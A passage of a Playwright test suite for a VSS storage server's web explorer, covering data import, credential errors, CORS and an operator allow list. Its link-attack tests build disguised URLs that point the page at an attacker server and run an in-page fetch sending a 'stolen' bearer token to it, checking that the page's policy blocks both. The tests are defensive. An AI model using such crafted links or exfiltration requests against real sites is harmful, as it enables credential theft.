      await waitForText(dataPage, "#import-status", "Imported");
      assert.equal(await dataPage.textContent("#import-sha256"), sha256);
      assert.equal((await dumpOf(d)).sha256, sha256);
      const keyE = randomBytes(32).toString("hex");
      await stopAndResume(keyE);
      await dataPage.click("#import-abort");
      await waitForText(dataPage, "#import-status", "what it wrote was deleted");
      assert.equal((await dumpOf(createNodeVssClient(vss.baseUrl, { auth: { privateKey: keyE } }))).stores, 0);
      await dataPage.unroute("**/vss.v1.VssService/ImportData", slow);

      // A file that is not a dump is refused, and leaves nothing.
      const keyC = randomBytes(32).toString("hex");
      await dataPage.fill("#private-key", keyC);
      await dataPage.setInputFiles("#import-file", { name: "photo.vssdump", mimeType: "application/octet-stream", buffer: Buffer.from("PK\x03\x04 a zip file") });
      await dataPage.click("#import-start");
      await waitForText(dataPage, "#import-status", "bad dump, refused (nothing of it was kept)");
      assert.ok(await dataPage.locator("#import-status.error").isVisible());
      assert.ok(await dataPage.isHidden("#import-result"));
      assert.equal((await dumpOf(createNodeVssClient(vss.baseUrl, { auth: { privateKey: keyC } }))).stores, 0);
    } finally {
      await dataPage.close();
      rmSync(downloads, { recursive: true, force: true });
    }
  });

  it("reports refused credentials, and leaves nothing of the last listing in view", async () => {
    const key = randomBytes(32).toString("hex");
    await createNodeVssClient(vss.baseUrl, { auth: { privateKey: key } }).putObjects({
      storeId: "refusals",
      transactionItems: [{ key: "listed", version: 0n, value: encoder.encode("x") }],
    });
    await signIn(page, vss.baseUrl + "/explorer/", key, "refusals");
    await page.locator('#keys button.key[data-key="listed"]').waitFor();
    await page.click('#keys button.key[data-key="listed"]');
    await waitForText(page, "#value-content", "x");
    await page.click("#value-close");

    await page.check('input[name="auth"][value="bearer"]');
    assert.ok(await page.isHidden("#private-key"));
    await page.fill("#bearer-token", "not-a-token");
    await page.click("#load");
    await waitForText(page, "#status", "refused the credentials");
    const status = (await page.textContent("#status")) ?? "";
    assert.match(status, /^Listing store "refusals" as user \(the token's subject\) on http:\/\/127\.0\.0\.1:\d+ failed: the server refused the credentials \(unauthenticated: /);
    assert.ok(await page.locator("#status.error").isVisible());
    assert.ok(await page.isHidden("#listing"), "the listing of the earlier query is still shown");
    assert.equal(await page.locator("#keys tr").count(), 0);
    assert.ok(await page.isHidden("#changes"));
    assert.equal(await page.textContent("#global-version"), "—");

    await page.check('input[name="auth"][value="signature"]');
    await page.fill("#private-key", "00".repeat(32));
    await page.click("#load");
    await waitForText(page, "#status", "the private key is not 64 hex characters of a valid secp256k1 key");

    // A new query that works clears the error.
    await page.fill("#private-key", key);
    await page.click("#load");
    await waitForText(page, "#status", "Page 1: 1 key.");
    assert.equal(await page.locator("#status.error").count(), 0);
  });

  it("says whether an unreachable server is down or refuses the page's origin", async () => {
    const dead = `http://127.0.0.1:${await freePort()}`;
    pages.allowed.push(dead);
    try {
      await signIn(page, `${pages.origin}/?server=${encodeURIComponent(dead)}`, randomBytes(32).toString("hex"), "anything");
      await waitForText(page, "#status", "failed: the server did not answer. Is it running, and is this its address?");
      assert.match((await page.textContent("#status")) ?? "", new RegExp(`^Listing store "anything" as user [0-9a-f]{66} on ${dead.replace(/[.]/g, "\\.")} failed`));
      assert.ok(await page.isHidden("#listing"));
      await page.screenshot({ path: join(screenshots, "explorer-error.png") });
    } finally {
      pages.allowed.splice(pages.allowed.indexOf(dead), 1);
    }
  });

  it("calls the server from another origin through CORS", async () => {
    const key = randomBytes(32).toString("hex");
    const store = "cross-origin";
    for (const server of [vss, noCors]) {
      await createNodeVssClient(server.baseUrl, { auth: { privateKey: key } }).putObjects({
        storeId: store,
        transactionItems: [{ key: "from-node", version: 0n, value: encoder.encode("visible across origins") }],
      });
    }
    // The page served elsewhere calls only the servers its own origin's config.json allows.
    pages.allowed.push(vss.baseUrl, noCors.baseUrl);
    const pageUrl = (server: TestServer) => `${pages.origin}/?server=${encodeURIComponent(server.baseUrl)}`;
    assert.notEqual(new URL(pages.origin).origin, new URL(vss.baseUrl).origin);

    await signIn(page, pageUrl(vss), key, store);
    await page.locator('#keys button.key[data-key="from-node"]').waitFor();
    assert.equal(await page.evaluate(() => location.origin), pages.origin);
    await page.click('#keys button.key[data-key="from-node"]');
    await waitForText(page, "#value-content", "visible across origins");

    // The same page and data on a server without --cors-origins: the browser blocks it,
    // and the page says why and what to do.
    await signIn(page, pageUrl(noCors), key, store);
    await page.locator("#status.error").waitFor();
    await waitForText(page, "#status", `does not allow calls from ${pages.origin} (CORS). Start it with --cors-origins ${pages.origin}`);
    assert.equal(await page.locator("#keys button.key").count(), 0);
    assert.ok(await page.isHidden("#listing"));
  });

  /**
   * linkAttacks are links to the explorer whose address names the attacker's server, in
   * every form the page ever read a server from: ?server= with the bare origin, a trailing
   * slash, a path, upper case, user info that looks like the real server, a decimal IP,
   * unencoded, repeated, next to ?store=; and the fragment.
   */
  function linkAttacks(explorer: string, attacker: string): string[] {
    const port = new URL(attacker).port;
    const own = new URL(explorer).host;
    const q = (v: string) => `?server=${encodeURIComponent(v)}`;
    return [
      q(attacker),
      q(attacker + "/"),
      q(attacker + "/vss.v1.VssService/"),
      q(attacker.toUpperCase()),
      q(`http://${own}@127.0.0.1:${port}`),
      q(`http://2130706433:${port}`),
      `?server=${attacker}`,
      `${q(attacker)}&server=${encodeURIComponent(new URL(explorer).origin)}`,
      `?store=link-attack&server=${encodeURIComponent(attacker)}`,
      `#server=${encodeURIComponent(attacker)}`,
      `#?server=${encodeURIComponent(attacker)}`,
    ].map((link) => explorer + link);
  }

  /**
   * tryLinkAttacks opens each link, signs in (with a private key, and once with a bearer
   * token), lists a store, and checks that the attacker received nothing while the page
   * listed the store on ownServer.
   */
  async function tryLinkAttacks(explorer: string, ownServer: TestServer, attacker: { origin: string; received: Received[] }): Promise<void> {
    const key = randomBytes(32).toString("hex");
    const store = "link-attack";
    await createNodeVssClient(ownServer.baseUrl, { auth: { privateKey: key } }).putObjects({
      storeId: store,
      transactionItems: [{ key: "own-server", version: 0n, value: encoder.encode("read from the page's own server") }],
    });
    const { page, requests, violations } = await watchedPage(browser);
    try {
      for (const link of linkAttacks(explorer, attacker.origin)) {
        requests.length = 0;
        await signIn(page, link, key, store);
        await settled(page);
        assert.equal(attacker.received.length, 0, `${link} sent the attacker:\n${describeReceived(attacker.received)}`);
        const elsewhere = requests.filter((u) => new URL(u).origin !== new URL(explorer).origin && new URL(u).origin !== ownServer.baseUrl);
        assert.deepEqual(elsewhere, [], `${link}: the page called other servers`);
        await page.locator('#keys button.key[data-key="own-server"]').waitFor();
        assert.equal(await page.inputValue("#server"), ownServer.baseUrl);
        if (new URL(link).searchParams.has("server")) {
          assert.ok(await page.isVisible("#server-note"), `${link}: the page does not say it ignored the server`);
        }
      }

      const links = linkAttacks(explorer, attacker.origin);
      await page.goto(links[0]!);
      await page.check('input[name="auth"][value="bearer"]');
      await page.fill("#bearer-token", "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ2aWN0aW0ifQ.c2lnbmF0dXJl");
      await page.fill("#store-id", store);
      await page.click("#load");
      await settled(page);
      assert.equal(attacker.received.length, 0, `a bearer token went to the attacker:\n${describeReceived(attacker.received)}`);
      assert.deepEqual(await violations(), [], "the page tried to load or connect to something its policy forbids");

      // Even a script running in the page cannot reach the attacker: the server's
      // Content-Security-Policy blocks it in the browser.
      const reached = await page.evaluate(async (url) => {
        try {
          await fetch(url, { method: "POST", headers: { Authorization: "Bearer stolen" }, body: "{}" });
          return true;
        } catch {
          return false;
        }
      }, attacker.origin + "/vss.v1.VssService/ListKeyVersions");
      assert.equal(reached, false, "fetch to the attacker succeeded");
      assert.equal(attacker.received.length, 0, `a script reached the attacker:\n${describeReceived(attacker.received)}`);
      console.log(
        `link attack on ${explorer}: ${links.length} links with a key, 1 with a token, 1 script fetch; ` +
          `the attacker received ${attacker.received.length} requests`,
      );
      // The browser reports the blocked connection.
      await page.waitForFunction(() =>
        ((globalThis as unknown as { cspViolations?: string[] }).cspViolations ?? []).some((v) => v.startsWith("connect-src")),
      );
    } finally {
      await page.close();
    }
  }

  it("never sends credentials to a server a link names", async () => {
    const attacker = await startAttacker();
    try {
      await tryLinkAttacks(vss.baseUrl + "/explorer/", vss, attacker);
    } finally {
      await new Promise((resolve) => attacker.server.close(resolve));
    }
  });

  it("calls the servers its operator allows, and no other", async () => {
    const attacker = await startAttacker();
    const explorerPort = await freePort();
    const explorerOrigin = `http://127.0.0.1:${explorerPort}`;
    const other = await startServer(["--auth", "signature", "--cors-origins", explorerOrigin]);
    const home = await startServer(["--auth", "signature", "--explorer", "--listen", `127.0.0.1:${explorerPort}`], {
      VSS_EXPLORER_ALLOWED_SERVERS: other.baseUrl,
    });
    const { page, requests, violations } = await watchedPage(browser);
    try {
      assert.equal(home.baseUrl, explorerOrigin);
      const res = await fetch(home.baseUrl + "/explorer/");
      const csp = res.headers.get("content-security-policy") ?? "";
      assert.match(csp, new RegExp(`(^|; )connect-src 'self' ${other.baseUrl.replace(/[.]/g, "\\.")};`), csp);

      const key = randomBytes(32).toString("hex");
      const store = "allowed";
      await createNodeVssClient(other.baseUrl, { auth: { privateKey: key } }).putObjects({
        storeId: store,
        transactionItems: [{ key: "on-the-other-server", version: 0n, value: encoder.encode("allowed by the operator") }],
      });

      await signIn(page, `${home.baseUrl}/explorer/?server=${encodeURIComponent(other.baseUrl)}`, key, store);
      await page.locator('#keys button.key[data-key="on-the-other-server"]').waitFor();
      await page.click('#keys button.key[data-key="on-the-other-server"]');
      await waitForText(page, "#value-content", "allowed by the operator");
      assert.deepEqual(
        await page.locator("#server option").evaluateAll((options) => options.map((o) => (o as HTMLOptionElement).value)),
        [home.baseUrl, other.baseUrl],
      );
      assert.ok(requests.some((u) => u.startsWith(other.baseUrl + "/vss.v1.VssService/")), "no call reached the allowed server");

      // Chosen in the form rather than by a link.
      await signIn(page, `${home.baseUrl}/explorer/`, key, store);
      await waitForText(page, "#status", "has no keys.");
      await page.selectOption("#server", other.baseUrl);
      await page.click("#load");
      await page.locator('#keys button.key[data-key="on-the-other-server"]').waitFor();
      assert.deepEqual(await violations(), []);

      // The allow list opens the allowed server only.
      await tryLinkAttacks(home.baseUrl + "/explorer/", home, attacker);
    } finally {
      await page.close();
      await home.stop();
      await other.stop();
      await new Promise((resolve) => attacker.server.close(resolve));
    }
  });
});
